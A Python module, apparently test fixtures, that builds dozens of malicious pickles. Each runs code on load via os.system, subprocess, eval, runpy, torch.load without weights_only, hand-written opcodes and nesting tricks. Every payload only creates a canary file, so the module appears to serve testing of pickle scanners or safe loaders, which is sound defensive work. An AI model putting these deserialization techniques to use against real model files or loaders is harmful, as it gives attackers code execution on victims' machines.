"""Pickles that run code when they are loaded, each in its own way. All of them make the file `canary`."""

from __future__ import annotations

import io
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


class Calls:
    """Pickles as a call of any function."""

    def __init__(self, function: Callable[..., Any], *args: Any, state: Any = None) -> None:
        self._call = (function, args) if state is None else (function, args, state)

    def __reduce__(self) -> Any:
        return self._call


def touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def payloads(canary: Path) -> dict[str, bytes]:
    """Name → pickle. Every one makes the canary when unpickled without restrictions."""
    import code
    import cProfile
    import functools
    import importlib
    import operator
    import os
    import runpy
    import shutil
    import subprocess
    import tempfile
    import timeit

    path, shell, python = str(canary), f"touch {canary}", touch(canary)
    script = canary.with_name("script.py")
    script.write_text(python)
    inner = pickle.dumps(Calls(eval, python))
    made: dict[str, Any] = {
        "os.system": Calls(os.system, shell),
        "os.popen": Calls(list, Calls(os.popen, shell)),
        "os.mkdir": Calls(os.mkdir, path),
        "os.symlink": Calls(os.symlink, "/", path),
        "eval": Calls(eval, python),
        "exec": Calls(exec, python),
        "open": Calls(open, path, "w"),
        "subprocess.call": Calls(subprocess.call, ["touch", path]),
        "subprocess.check_output": Calls(subprocess.check_output, ["touch", path]),
        "subprocess.getoutput": Calls(subprocess.getoutput, shell),
        "runpy.run_path": Calls(runpy.run_path, str(script)),
        "shutil.copy": Calls(shutil.copy, str(script), path),
        "timeit.timeit": Calls(timeit.timeit, python, "pass", timeit.default_timer, 1),
        "cProfile.run": Calls(cProfile.run, python, path),
        "pathlib.Path.touch": Calls(Path.touch, canary),
        "tempfile.mkdtemp": Calls(tempfile.mkdtemp, "", canary.name, str(canary.parent)),
        "pickle.loads": Calls(pickle.loads, inner),
        "nested in a dict": {"model": {"w": Calls(eval, python)}},
        "as a key": {Calls(hash, 1): 1, "x": Calls(eval, python)},
        "importlib then call": [Calls(importlib.import_module, "os"), Calls(eval, python)],
        "operator.methodcaller": Calls(operator.methodcaller("touch"), canary),
        "code.InteractiveInterpreter": Calls(
            operator.methodcaller("runsource", python), Calls(code.InteractiveInterpreter)
        ),
        "functools.reduce": Calls(functools.reduce, eval, [python, {}]),
        "list of map": Calls(list, Calls(map, eval, [python])),
        "torch.load": Calls(
            functools.partial(torch.load, weights_only=False), Calls(io.BytesIO, torch_file(inner))
        ),
        "torch.storage._load_from_bytes": Calls(torch.storage._load_from_bytes, torch_file(inner)),
    }
    pickled = {name: pickle.dumps(each, 2) for name, each in made.items()}
    raw = repr(python).encode()
    pickled["GLOBAL and REDUCE by hand"] = b"c__builtin__\neval\n(S" + raw + b"\ntR."
    pickled["INST"] = b"(S" + raw + b"\ni__builtin__\neval\n."
    pickled["OBJ"] = b"(c__builtin__\neval\nS" + raw + b"\no."
    pickled["STACK_GLOBAL"] = pickle.dumps(Calls(eval, python), 4)
    pickled["hidden below the result"] = pickle.dumps(Calls(eval, python), 2)[:-1] + b"0}."
    return pickled


def torch_file(pickled: bytes) -> bytes:
    """A .pt file around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()
